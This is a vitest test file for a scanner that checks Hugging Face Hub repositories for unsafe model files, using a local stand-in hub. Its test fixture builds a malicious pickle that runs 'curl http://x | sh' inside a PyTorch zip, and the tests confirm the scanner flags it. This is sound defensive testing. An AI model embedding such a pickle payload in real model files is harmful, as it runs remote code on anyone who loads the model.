import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanHub, type HubScanOptions } from '../../src/engine/scan-hub.js';
import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
import { buildZip } from '../../src/formats/zip/builder.js';
import { sha256 } from '../helpers/fixture-hub.js';
import { HubProcess } from '../helpers/hub-process.js';
import { osSystemPickle, plainPickle } from '../helpers/pickles.js';

const torchZip = (pickle: Buffer): Buffer =>
  buildZip([
    { name: 'archive/data.pkl', data: pickle },
    { name: 'archive/version', data: Buffer.from('3\n') },
    { name: 'archive/data/0', data: Buffer.alloc(4096, 1) },
  ]);

let hub: HubProcess;
let cache: string;
const env = (extra: Record<string, string> = {}): NodeJS.ProcessEnv => ({ HF_ENDPOINT: hub.url, HF_HOME: cache, ...extra });
const opts = (extra: Partial<HubScanOptions> = {}): HubScanOptions => ({ env: env(), transport: { backoffMs: 10 }, ...extra });

const evil = torchZip(osSystemPickle('curl http://x | sh'));
const safe = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [64, 64] }] });
let goodSha = '';

beforeAll(async () => {
  hub = await HubProcess.start();
  cache = mkdtempSync(join(tmpdir(), 'mg-hub-'));
  goodSha = await hub.addSimpleRepo('acme/good', [
    { path: 'config.json', content: Buffer.from('{"model_type": "bert"}') },
    { path: 'model.safetensors', content: safe },
    { path: 'README.md', content: Buffer.from('# good\n') },
  ]);
  await hub.addSimpleRepo('acme/evil', [
    { path: 'config.json', content: Buffer.from('{"model_type": "bert"}') },
    { path: 'pytorch_model.bin', content: evil },
    { path: 'sub/plain.pkl', content: plainPickle() },
  ]);
});
afterAll(async () => {
  await hub.close();
  rmSync(cache, { recursive: true, force: true });
});

describe('scan hf:', () => {
  it('resolves the revision, lists files with LFS hashes and scans each through the engine', async () => {
    const r = await scanHub('hf:acme/good', opts());
    expect(r.source).toEqual({ repo: 'acme/good', revision: 'main', commit: goodSha, hubSecurityStatus: { scansDone: true, filesWithIssues: [] } });
    expect(r.files.map((f) => [f.path, f.format, f.verdict])).toEqual([
      ['README.md', expect.any(String), 'clean'],
      ['config.json', 'hf-config', 'clean'],
      ['model.safetensors', 'safetensors', 'clean'],
    ]);
    const st = r.files.find((f) => f.path === 'model.safetensors')!;
    expect(st.sha256).toBe(sha256(safe));
    expect(st.sha256Source).toBe('hub-lfs');
    expect(r.files.find((f) => f.path === 'config.json')!.sha256Source).toBe('computed');
    expect(r.findings.map((f) => f.ruleId).sort()).toEqual(['repo/hub-security-status', 'repo/unpinned-revision']);
  });

  it('finds a malicious pickle inside a torch zip on the Hub', async () => {
    const r = await scanHub('hf:acme/evil', opts());
    const bin = r.files.find((f) => f.path === 'pytorch_model.bin')!;
    expect(bin.format).toBe('pytorch-zip');
    expect(bin.verdict).toBe('malicious');
    expect(bin.findings.some((f) => f.ruleId === 'pickle/dangerous-callable' && f.target === 'pytorch_model.bin!/archive/data.pkl')).toBe(true);
  });

  it('pinned to a commit: no unpinned-revision finding', async () => {
    const r = await scanHub(`hf:acme/good@${goodSha}`, opts());
    expect(r.source?.commit).toBe(goodSha);
    expect(r.findings.map((f) => f.ruleId)).not.toContain('repo/unpinned-revision');
  });
});
